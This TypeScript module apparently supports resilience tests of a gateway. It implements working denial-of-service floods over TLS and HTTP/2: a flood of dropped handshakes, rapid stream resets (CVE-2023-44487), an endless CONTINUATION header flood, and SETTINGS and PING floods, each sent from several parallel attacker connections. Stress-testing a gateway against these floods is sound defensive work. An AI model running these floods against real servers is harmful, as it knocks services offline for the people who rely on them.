/** Floods over TLS: of handshakes, and of frames of HTTP/2 (RFC 9113). */
import { setTimeout as delay } from 'node:timers/promises';
import { connect, type TLSSocket } from 'node:tls';
import {
  CONTINUATION,
  END_STREAM,
  frame,
  HEADERS,
  literal,
  OPENING,
  PING,
  REQUEST,
  resetStreams,
  SETTINGS,
} from '../../support/http2-frames.ts';
import { type Attack, arrived, attackerSocket, repeat } from './attacks.ts';
import type { Target } from './flooded-gateway.ts';

const secure = async (
  { tlsPort }: Target,
  address: number,
  signal: AbortSignal,
  protocol: string,
): Promise<TLSSocket> => {
  const socket = await attackerSocket(tlsPort, address, signal);
  const tls = connect({ socket, rejectUnauthorized: false, ALPNProtocols: [protocol] });
  tls.on('error', () => undefined);
  socket.once('close', () => tls.destroy());
  await new Promise<void>((resolve, reject) => {
    tls.once('secureConnect', resolve).once('close', () => reject(new Error('cut off')));
  });
  arrived();
  return tls;
};

/** What was written is on its way, or nothing more will be. */
const flowed = (tls: TLSSocket): Promise<unknown> =>
  new Promise((resolve) => {
    const done = (): void => {
      tls.off('drain', done).off('close', done);
      resolve(undefined);
    };
    tls.on('drain', done).on('close', done);
  });

/** Opens HTTP/2, sends the bursts that `bursts` makes, and stays until it is cut off or the attack ends. */
const frames = (target: Target, address: number, bursts: () => Iterable<Buffer>): Attack =>
  repeat(4, async (attacker, signal) => {
    const tls = await secure(target, address + attacker, signal, 'h2');
    tls.resume().write(OPENING);
    for (const burst of bursts()) {
      if (tls.destroyed) break;
      if (!tls.write(burst)) await flowed(tls);
    }
    if (!tls.destroyed) await new Promise((resolve) => tls.once('close', resolve));
    await delay(200, undefined, { signal, ref: false });
  });

/** Connections that are dropped as soon as they are up. */
export const handshakes = (target: Target): Attack =>
  repeat(20, async (_, signal) => {
    const tls = await secure(target, 100, signal, 'http/1.1');
    tls.destroy();
    await delay(20, undefined, { signal, ref: false });
  });

/** Streams that are reset as soon as they are opened (CVE-2023-44487). */
export const rapidReset = (target: Target): Attack =>
  frames(target, 110, function* () {
    for (let first = 1; first < 4_000; first += 200) yield resetStreams(first, 100);
  });

/** Headers that never end (CVE-2024-27316). */
export const continuations = (target: Target): Attack =>
  frames(target, 120, function* () {
    yield frame(HEADERS, END_STREAM, 1, REQUEST);
    const more = frame(CONTINUATION, 0, 1, literal('x-more', 'x'.repeat(100)));
    for (let burst = 0; burst < 1_000; burst += 1)
      yield Buffer.concat(Array.from({ length: 100 }, () => more));
  });

/** Settings that all have to be acknowledged (CVE-2019-9515). */
export const settings = (target: Target): Attack =>
  frames(target, 130, function* () {
    const one = frame(SETTINGS, 0, 0, Buffer.from([0, 4, 0, 1, 0, 0]));
    for (let burst = 0; burst < 500; burst += 1) yield Buffer.concat(Array.from({ length: 200 }, () => one));
  });

/** Pings that all have to be answered (CVE-2019-9512). */
export const pings = (target: Target): Attack =>
  frames(target, 140, function* () {
    const one = frame(PING, 0, 0, Buffer.alloc(8));
    for (let burst = 0; burst < 500; burst += 1) yield Buffer.concat(Array.from({ length: 200 }, () => one));
  });
